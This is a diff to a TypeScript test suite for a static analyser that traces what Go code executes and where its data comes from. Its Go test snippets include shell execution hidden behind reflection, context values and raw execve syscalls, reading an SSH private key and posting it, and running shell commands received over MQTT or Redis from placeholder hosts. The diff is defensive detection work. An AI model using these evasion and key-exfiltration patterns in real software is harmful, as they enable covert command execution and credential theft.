@@ -10,6 +10,7 @@ const catalogue = standardCatalogue()
 const IMPORTS: Readonly<Record<string, string>> = {
   bytes: 'bytes',
   cipher: 'crypto/cipher',
+  context: 'context',
   exec: 'os/exec',
   filepath: 'path/filepath',
   fs: 'io/fs',
@@ -17,10 +18,13 @@ const IMPORTS: Readonly<Record<string, string>> = {
   http: 'net/http',
   io: 'io',
   json: 'encoding/json',
+  mqtt: 'github.com/eclipse/paho.mqtt.golang',
   multipart: 'mime/multipart',
   nats: 'github.com/nats-io/nats.go',
   os: 'os',
+  redis: 'github.com/redis/go-redis/v9',
   reflect: 'reflect',
+  slices: 'slices',
   ssh: 'golang.org/x/crypto/ssh',
   strings: 'strings',
   sync: 'sync',
@@ -32,7 +36,7 @@ const IMPORTS: Readonly<Record<string, string>> = {
 /** The effects of a file with these declarations; what it uses is imported. */
 function effectsOf(body: string): readonly Effect[] {
   const used = Object.entries(IMPORTS).filter(([name]) => new RegExp(`\\b${name}\\.[A-Z]`).test(body))
-  const text = `package a\n\nimport (\n${used.map(([, path]) => `\t"${path}"\n`).join('')})\n\n${body}\n`
+  const text = `package a\n\nimport (\n${used.map(([name, path]) => `\t${name} "${path}"\n`).join('')})\n\n${body}\n`
   return readFacts('example.com/m', new Map([['a.go', utf8(text)]]), catalogue).effects
 }
 
@@ -71,6 +75,10 @@ for (const [name, body] of [
   [
     'reflection',
     'func F() { reflect.ValueOf(exec.Command).Call([]reflect.Value{reflect.ValueOf("sh"), reflect.ValueOf("-c"), reflect.ValueOf("id")}) }',
+  ],
+  [
+    'a context',
+    'func F() { g(context.WithValue(context.Background(), "k", exec.Command)) }\nfunc g(c context.Context) { f, _ := c.Value("k").(func(string, ...string) *exec.Cmd); f("sh", "-c", "id") }',
   ],
   [
     'a method expression',
@@ -176,4 +184,31 @@ test('effects are those of the system call that starts a program, by its name an
   const stub = `func call(n, a, b uintptr)\nfunc F() { p := [...]byte{47, 98, 105, 110, 47, 115, 104, 0}; v := [...]*byte{&p[0], nil}; call(59, uintptr(unsafe.Pointer(&p[0])), uintptr(unsafe.Pointer(&v[0]))) }`
   assert.deepEqual(commands(stub), ['/bin/sh /bin/sh'])
   assert.deepEqual(commands(stub.replace('59', '60')), [])
+})
+
+test('origins: a folder that is opened as a file system stands for its files', () => {
+  const body = `func F() { d := os.DirFS("/k/.ssh"); b, _ := fs.ReadFile(d, "id_rsa"); ${POST('bytes.NewReader(b)')} }`
+  assert.deepEqual(sources(body, 'data'), ['file /k/.ssh/…'])
+})
+
+test('effects have what methods add to a request before it is sent, and not what is added to another one', () => {
+  const body = `func F(k string) { r, _ := http.NewRequest("GET", "https://a.invalid", nil); o, _ := http.NewRequest("GET", "/", nil); r.AddCookie(&http.Cookie{Value: k}); o.AddCookie(&http.Cookie{Value: os.Getenv("A")}); http.DefaultClient.Do(r) }`
+  assert.deepEqual(sources(body, 'header'), ['argument'])
+})
+
+test('origins: a message tells by the connection that it came over', () => {
+  const mqtt = `func F() { o := mqtt.NewClientOptions(); o.AddBroker("ssl://a.invalid:1"); c := mqtt.NewClient(o); c.Subscribe("x", 0, on) }\nfunc on(_ mqtt.Client, m mqtt.Message) { exec.Command("sh", "-c", string(m.Payload())) }`
+  assert.deepEqual(sources(mqtt, 'argument'), ['network ssl://a.invalid:1'])
+  const redis = `func F() { c := redis.NewClient(&redis.Options{Addr: "a.invalid:2"}); for m := range c.Subscribe(nil, "x").Channel() { exec.Command("sh", "-c", m.Payload) } }`
+  assert.deepEqual(sources(redis, 'argument'), ['network a.invalid:2'])
+})
+
+test('effects have the elements of a list that the library calls a function for', () => {
+  const body = `var all = []string{"id", "ls"}\nfunc F() bool { return slices.ContainsFunc(all, func(s string) bool { return exec.Command("sh", "-c", s).Run() == nil }) }`
+  assert.deepEqual(commands(body), ['sh -c id|ls'])
+})
+
+test('effects of the system call know what pointers of helpers point to', () => {
+  const body = `func ptr(s string) *byte { return unsafe.StringData(s) }\nfunc F() { v := [3]*byte{ptr("sh\\x00"), ptr("-c\\x00"), nil}; syscall.RawSyscall6(syscall.SYS_EXECVE, uintptr(unsafe.Pointer(ptr("/bin/sh\\x00"))), uintptr(unsafe.Pointer(&v)), 0, 0, 0, 0) }`
+  assert.deepEqual(commands(body), ['/bin/sh sh -c'])
 })
